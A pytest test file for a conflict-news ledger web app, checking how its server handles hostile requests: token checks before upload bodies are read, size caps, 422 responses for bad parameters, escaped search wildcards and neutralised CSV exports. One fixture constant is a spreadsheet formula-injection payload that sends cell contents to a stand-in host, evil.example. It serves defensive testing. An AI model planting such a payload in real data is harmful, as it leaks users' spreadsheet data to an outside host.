"""The web server under hostile requests: writes refused before their body is read, bounded
and validated parameters (422, never 500), escaped search, neutral CSV exports, any article id,
uploads named by their own file names, and the ceasefire report cached per ledger state."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import tempfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from trucewatch import api
from trucewatch.ledger import tables as t
from trucewatch.ledger.store import Ledger
from trucewatch.web import create_app

FIX = Path(__file__).parent / "fixtures"
TOKEN = "s3cret"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
HOSTILE_OUTLET = '=HYPERLINK("https://evil.example/?x="&A1,"Harbour Post")'


@pytest.fixture(scope="module")
def ledger(tmp_path_factory, extractor) -> str:
    folder = tmp_path_factory.mktemp("web-limits")
    db = str(folder / "web.db")
    api.ingest([], db=db, meta=FIX / "incidents" / "meta.jsonl", extractor=extractor)
    lines = [
        {"id": "desk/2024/shelling-report", "outlet": "Dune Gazette", "published": "2024-05-02",
         "title": "Shelling in Khan Younis", "text": "Shelling killed three people in Khan Younis on Thursday, "
                                                     "medics said. \"We counted 50% of the homes damaged,\" a "
                                                     "civil defence spokesman said."},
        {"id": "csv-1", "outlet": HOSTILE_OUTLET, "published": "2024-05-02",
         "text": "Shelling killed three people in Khan Younis on Thursday, medics said. A local official said "
                 "the strikes hit the_market district."},
    ]
    src = folder / "lines.jsonl"
    src.write_text("".join(json.dumps(line) + "\n" for line in lines))
    api.ingest([str(src)], db=db, extractor=extractor)
    return db


@pytest.fixture()
def client(ledger) -> TestClient:
    return TestClient(create_app(ledger, token=TOKEN, max_files=3, max_file_bytes=4000))


# ------------------------------------------------------------------ writes refused before the body

def _multipart(parts: list[tuple[str, str | None, int]], boundary: str = "xyzzy") -> list[bytes]:
    """A multipart body: (field, file name or None, size) per part; file contents are generated
    lazily in 1 MB chunks, so a 'large' body costs nothing until it is read."""
    head, chunks = b"", []
    for field, filename, size in parts:
        disp = f'form-data; name="{field}"' + (f'; filename="{filename}"' if filename else "")
        head += f"--{boundary}\r\nContent-Disposition: {disp}\r\n\r\n".encode()
        if filename is None:
            head += TOKEN.encode() + b"\r\n"
            continue
        chunks.append(head)
        head = b""
        left = size
        while left > 0:
            chunks.append(b"x" * min(left, 1 << 20))
            left -= 1 << 20
        head = b"\r\n"
    chunks.append(head + f"--{boundary}--\r\n".encode())
    return chunks


def _post(app, path: str, chunks: list[bytes], headers: dict[str, str], *, length: bool = True):
    """Drive the ASGI app directly and count the body chunks it pulls."""
    pulled = 0
    it = iter(chunks)

    async def receive():
        nonlocal pulled
        try:
            chunk = next(it)
        except StopIteration:
            return {"type": "http.request", "body": b"", "more_body": False}
        pulled += 1
        return {"type": "http.request", "body": chunk, "more_body": True}

    sent: list[dict] = []

    async def send(message):
        sent.append(message)

    hdrs = {"content-type": "multipart/form-data; boundary=xyzzy", **{k.lower(): v for k, v in headers.items()}}
    if length:
        hdrs["content-length"] = str(sum(len(c) for c in chunks))
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": path, "raw_path": path.encode(), "root_path": "", "query_string": b"",
             "headers": [(k.encode(), v.encode()) for k, v in hdrs.items()],
             "client": ("127.0.0.1", 50000), "server": ("127.0.0.1", 8765)}
    asyncio.run(app(scope, receive, send))
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return status, body, pulled


@pytest.fixture()
def spool(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "spool"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def test_an_upload_without_a_token_is_refused_before_its_body_is_read(ledger, spool):
    app = create_app(ledger, token=TOKEN)
    chunks = _multipart([("files", "big.txt", 48 << 20)])
    status, _, pulled = _post(app, "/api/ingest", chunks, {})
    assert status == 401 and pulled == 0
    status, _, pulled = _post(app, "/api/ingest", chunks, {"Authorization": "Bearer wrong"})
    assert status == 401 and pulled == 0
    assert not any(spool.iterdir()), "nothing is spooled for a request without a valid token"
    disabled = create_app(ledger, token=None)
    status, _, pulled = _post(disabled, "/api/ingest", chunks, AUTH)
    assert status == 403 and pulled == 0


def test_an_upload_over_the_size_cap_is_refused_by_its_content_length(ledger, spool):
    app = create_app(ledger, token=TOKEN, max_files=2, max_file_bytes=1 << 20)
    chunks = _multipart([("files", "big.txt", 48 << 20)])
    status, body, pulled = _post(app, "/api/ingest", chunks, AUTH)
    assert status == 413 and pulled == 0, body
    assert not any(spool.iterdir())


def test_a_chunked_upload_is_cut_off_at_the_cap(ledger, spool):
    app = create_app(ledger, token=TOKEN, max_files=2, max_file_bytes=1 << 20)
    chunks = _multipart([("files", "big.txt", 48 << 20)])
    status, body, pulled = _post(app, "/api/ingest", chunks, AUTH, length=False)
    assert status == 413, body
    assert pulled <= 4, f"read {pulled} MB of a body over a 2 MB cap"
    assert not any(spool.iterdir())


def test_the_upload_form_stops_at_the_first_file_without_a_valid_token(ledger, spool):
    app = create_app(ledger, token=TOKEN)
    chunks = _multipart([("files", "big.txt", 4 << 20)])
    status, _, pulled = _post(app, "/upload", chunks, {})
    assert status == 401 and pulled <= 1
    assert not any(spool.iterdir())


def test_the_upload_form_page_asks_for_the_token_before_the_files(client):
    html = client.get("/upload").text
    assert html.index('name="token"') < html.index('name="files"')


# ------------------------------------------------------------------ uploads: ids and names

def test_an_uploaded_file_keeps_its_own_name_as_id_and_updates_are_revisions(client, ledger):
    first = [("files", ("ceasefire-note.txt", b"Crossing note\n\nThe crossing at Rafah opened on Monday.\n",
                        "text/plain"))]
    assert client.post("/api/ingest", files=first, headers=AUTH).json()["new_revisions"] == 1
    update = [("files", ("ceasefire-note.txt", b"Crossing note\n\nThe crossing at Rafah opened on Monday and "
                                               b"closed again at dusk.\n", "text/plain"))]
    assert client.post("/api/ingest", files=update, headers=AUTH).json()["new_revisions"] == 1
    got = client.get("/api/articles/ceasefire-note")
    assert got.status_code == 200
    assert "closed again at dusk" in got.json()["record"]["text"]
    assert got.json()["record"]["source"] == "ceasefire-note.txt"
    led = Ledger(ledger)
    try:
        with led.engine.connect() as conn:
            rows = conn.execute(select(t.articles.c.article_id, t.articles.c.revision)
                                .where(t.articles.c.article_id.like("%ceasefire-note%"))).all()
            names = [r.name for r in conn.execute(select(t.documents.c.name))]
    finally:
        led.close()
    assert sorted((r.article_id, r.revision) for r in rows) == [("ceasefire-note", 1), ("ceasefire-note", 2)]
    assert [n for n in names if "ceasefire-note" in n] == ["ceasefire-note.txt"] * 2, names
    assert not any("trucewatch-upload" in n for n in names), names


def test_upload_rejections_name_the_uploaded_file_not_a_server_path(client):
    files = [("files", ("bulletins.jsonl", b'{"text": "Aid trucks entered through Kerem Shalom."}\n{"text": broken\n',
                        "application/x-ndjson"))]
    body = client.post("/api/ingest", files=files, headers=AUTH).json()
    assert [r["name"] for r in body["rejections"]] == ["bulletins.jsonl:2"]
    assert "/" not in json.dumps(body["rejections"]).replace("RSS/Atom", "")


# ------------------------------------------------------------------ parameters: 422, never 500

@pytest.mark.parametrize("url", [
    "/api/claims?q=" + "x" * 60_000,
    "/api/claims?speaker=" + "y" * 60_000,
    "/search?q=" + "x" * 60_000,
    "/api/articles?offset=9223372036854775808",
    "/api/claims?offset=9223372036854775808",
    "/api/incidents?offset=99999999999999999999999",
    "/articles?page=9223372036854775808",
    "/search?q=strike&page=9223372036854775808",
    "/incidents?page=9223372036854775808",
    "/api/incidents?place=" + "z" * 60_000,
    "/api/incidents?type=" + "z" * 60_000,
    "/api/incidents?start=" + "2024-01-01" * 5_000,
    "/api/claims?q=a%00b",
    "/api/articles/" + "a" * 5000,
    "/api/incidents/" + "b" * 5000,
])
def test_bad_parameters_are_422_never_500(client, url):
    r = client.get(url)
    assert r.status_code == 422, (url[:80], r.status_code, r.text[:200])


def test_search_treats_like_wildcards_as_text(client):
    everything = client.get("/api/claims", params={"limit": 500}).json()["total"]
    assert everything > 1
    percent = client.get("/api/claims", params={"q": "%", "limit": 500}).json()
    assert percent["total"] == sum("%" in c["content"] for c in client.get("/api/claims", params={"limit": 500})
                                   .json()["items"]) < everything
    assert all("%" in c["content"] for c in percent["items"])
    underscore = client.get("/api/claims", params={"q": "_", "limit": 500}).json()
    assert underscore["total"] < everything and all("_" in c["content"] for c in underscore["items"])
    speaker = client.get("/api/claims", params={"speaker": "%"}).json()
    assert speaker["total"] == 0


# ------------------------------------------------------------------ exports and ids

def test_csv_export_neutralises_spreadsheet_formulas(client):
    text = client.get("/api/incidents.csv").text
    assert "HYPERLINK" in text
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert any(cell == "'" + HOSTILE_OUTLET for row in rows for cell in row)


def test_an_article_id_with_slashes_opens_and_is_linked(client):
    r = client.get("/api/articles/desk/2024/shelling-report")
    assert r.status_code == 200 and r.json()["record"]["id"] == "desk/2024/shelling-report"
    assert client.get("/api/articles/desk%2F2024%2Fshelling-report").status_code == 200
    page = client.get("/articles/desk/2024/shelling-report")
    assert page.status_code == 200 and "Shelling in Khan Younis" in page.text
    listing = client.get("/articles", params={"page": 1}).text
    assert 'href="/articles/desk/2024/shelling-report"' in listing
    odd = [("files", ("odd.jsonl", json.dumps({"id": "a b?c#d", "text": "Aid entered on Monday."}).encode(),
                      "application/x-ndjson"))]
    assert client.post("/api/ingest", files=odd, headers=AUTH).status_code == 200
    assert client.get("/api/articles/a%20b%3Fc%23d").json()["record"]["id"] == "a b?c#d"
    assert 'href="/articles/a%20b%3Fc%23d"' in client.get("/articles").text


# ------------------------------------------------------------------ the ceasefire report's cache

def test_the_ceasefire_report_is_cached_until_the_ledger_changes(client, ledger, monkeypatch, bare):
    from trucewatch import ceasefire

    calls = []
    real = ceasefire.build_report

    def counting(*args, **kwargs):
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(ceasefire, "build_report", counting)
    first = client.get("/api/ceasefire/GAZA-2023-11-PAUSE").json()
    assert client.get("/api/ceasefire/GAZA-2023-11-PAUSE").json() == first
    assert client.get("/ceasefire/GAZA-2023-11-PAUSE").status_code == 200
    assert len(calls) == 1
    note = [("files", ("pause-note.txt", b"Pause note\n\nThe truce took effect on Friday morning, officials "
                                         b"said.\n", "text/plain"))]
    assert client.post("/api/ingest", files=note, headers=AUTH).status_code == 200
    client.get("/api/ceasefire/GAZA-2023-11-PAUSE")
    assert len(calls) == 2, "an upload changes the ledger: the report is rebuilt"
    src = Path(tempfile.mkdtemp()) / "elsewhere.txt"
    src.write_text("Another note\n\nAid trucks crossed at Rafah on Saturday, officials said.\n")
    api.ingest([str(src)], db=ledger, extractor=bare)  # another process's ingest
    client.get("/api/ceasefire/GAZA-2023-11-PAUSE")
    assert len(calls) == 3
